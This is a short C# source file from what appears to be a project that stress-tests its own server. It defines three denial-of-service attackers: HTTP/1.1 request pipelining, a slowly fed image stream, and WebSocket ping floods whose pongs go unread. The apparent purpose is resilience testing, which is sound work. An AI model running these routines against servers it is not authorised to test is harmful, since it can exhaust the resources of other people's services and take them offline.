namespace Counter.Attack.Attackers;

/// <summary>Attackers that do not read the responses on HTTP/1.1 connections and WebSockets.</summary>
internal static class UnreadHttp1
{
    private const int LittleBuffer = 4096;
    private static readonly TimeSpan Second = TimeSpan.FromSeconds(1);

    // A ping of 125 bytes from a client, with a mask of zeros (RFC 6455).
    private static readonly byte[] WebSocketPing = [0x89, 0x80 | 125, 0, 0, 0, 0, .. new byte[125]];

    /// <summary>Sends requests without a pause.</summary>
    public static async Task PipelineAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var stream = await target.ConnectAsync(number, buffer: LittleBuffer, cancellationToken: over);
        await stream.RepeatAsync(Http1.Request(target, number % 2 == 0 ? "/" : "/preview.png?n=1234567&size=64&scale=4"), TimeSpan.Zero, over);
    }

    /// <summary>Opens a stream of large pictures. Sends further bytes, whose failure shows when the stream is cut.</summary>
    public static async Task StreamAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var stream = await target.ConnectAsync(number, buffer: LittleBuffer, cancellationToken: over);
        await stream.AskAsync(target, "/online.png?site=attack.example&page=/unread&size=64&scale=4", over);
        await stream.RepeatAsync("G"u8.ToArray(), Second, over);
    }

    /// <summary>Sends pings over a WebSocket and does not read the pongs.</summary>
    public static async Task WebSocketAsync(Target target, int number, Action<string> count, CancellationToken over)
    {
        await using var stream = await target.ConnectAsync(number, buffer: LittleBuffer, cancellationToken: over);
        await stream.WriteAsync(
            Http1.Request(
                target, "/online/ws?site=attack.example&page=/unread",
                "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"),
            over);
        await stream.ReadStatusAsync(count, over);
        await stream.RepeatAsync(WebSocketPing, TimeSpan.Zero, over);
    }
}
